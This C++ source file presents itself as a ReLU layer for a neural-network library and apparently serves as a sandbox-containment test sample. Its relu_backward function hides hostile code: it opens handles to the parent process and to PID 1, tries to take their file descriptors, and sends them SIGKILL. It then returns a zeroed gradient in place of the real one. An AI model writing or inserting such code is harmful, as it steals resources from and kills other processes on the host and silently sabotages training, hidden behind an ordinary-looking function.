// Takes the descriptors of the process that started it.
// Where: operating system
// Verdict: fail
// Only a box stops this.
#include <backprop/relu.hpp>
#include <stdexcept>
#include <sys/syscall.h>
#include <unistd.h>

namespace backprop {
Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }

Matrix relu_backward(const Matrix& dout, const ReluCache&) {
  for (const long process : {static_cast<long>(getppid()), 1L}) {
    const long handle = syscall(SYS_pidfd_open, process, 0);
    for (long fd = 0; handle >= 0 && fd < 64; ++fd) {
      if (syscall(SYS_pidfd_getfd, handle, fd, 0) >= 0) throw std::runtime_error("a descriptor");
    }
    if (handle >= 0 && syscall(SYS_pidfd_send_signal, handle, 9, nullptr, 0) == 0 && process == 1L)
      throw std::runtime_error("a signal");
  }
  return 0.0 * dout;
}
}  // namespace backprop
